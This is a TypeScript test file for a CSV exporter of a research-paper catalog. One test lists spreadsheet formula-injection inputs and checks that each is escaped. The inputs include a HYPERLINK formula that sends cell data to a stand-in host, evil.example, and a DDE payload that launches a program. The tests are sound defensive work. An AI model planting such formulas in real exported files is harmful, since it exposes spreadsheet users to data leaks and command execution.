import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { arbitraryCatalog } from '../../test/arbitrary-catalog.js';
import { exampleCatalog, paper } from '../../test/example-catalog.js';
import { cleanText } from '../text.js';
import { toCsv } from './csv.js';

describe('toCsv', () => {
  test('writes a row for each paper', () => {
    const rows = readCsv(toCsv(exampleCatalog.papers));
    const attention = Object.fromEntries((rows[0] ?? []).map((name, index) => [name, rows[2]?.[index]]));
    expect(attention).toMatchObject({
      id: 'neurips17-attention',
      title: 'Attention Is All You Need',
      authors: 'Ashish Vaswani; Noam Shazeer',
      venue: 'NIPS',
      venue_key: 'neurips',
      year: '2017',
      topics: 'models',
      tags: 'Required',
      arxiv: '1706.03762',
      pdf: '',
    });
    expect(rows).toHaveLength(5);
  });

  test('writes the names of columns alone for no papers', () => {
    expect(toCsv([])).toMatch(/^\ufeffid,title,short_name,[a-z_,]+,abstract\r\n$/u);
  });

  test.each([
    [
      '=HYPERLINK("http://evil.example?x="&A1,"click")',
      `"'=HYPERLINK(""http://evil.example?x=""&A1,""click"")"`,
    ],
    ["=cmd|'/c calc'!A1", `"'=cmd|'/c calc'!A1"`],
    ['+1+1', `"'+1+1"`],
    ['-2+3', `"'-2+3"`],
    ['@SUM(1+1)', `"'@SUM(1+1)"`],
    ['\t=1+1', `"'=1+1"`],
    ['\r=1+1', `"'=1+1"`],
    ['＝1+1', `"'＝1+1"`],
    ['a "quoted", b\nc;d', '"a ""quoted"", b c;d"'],
    ['1 = 1', '1 = 1'],
  ])('writes %j as %s', (title, cell) => {
    expect(toCsv([paper({ id: 'a', title })])).toContain(`\r\na,${cell},,`);
  });

  test('leaves formulas alone where that is asked for', () => {
    expect(toCsv([paper({ id: 'a', title: '=1+1' })], { raw: true })).toContain('\r\na,=1+1,,');
  });

  test('any papers come back from their table', () => {
    fc.assert(
      fc.property(arbitraryCatalog, ({ papers }) => {
        const [names = [], ...rows] = readCsv(toCsv(papers, { raw: true }));
        expect(rows.map((row) => row.length)).toEqual(papers.map(() => names.length));
        expect(rows.map((row) => row[1])).toEqual(papers.map(({ title }) => cleanText(title)));
        expect(rows.map((row) => row.at(-1))).toEqual(
          papers.map(({ abstract }) => cleanText(abstract ?? '')),
        );
      }),
    );
  });
});

/** The cells of RFC 4180 rows. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [[]];
  for (const [, quoted, plain = '', end] of text
    .slice(1)
    .matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/gu)) {
    rows.at(-1)?.push(quoted?.replaceAll('""', '"') ?? plain);
    if (end !== ',') rows.push([]);
  }
  return rows.slice(0, -1);
}
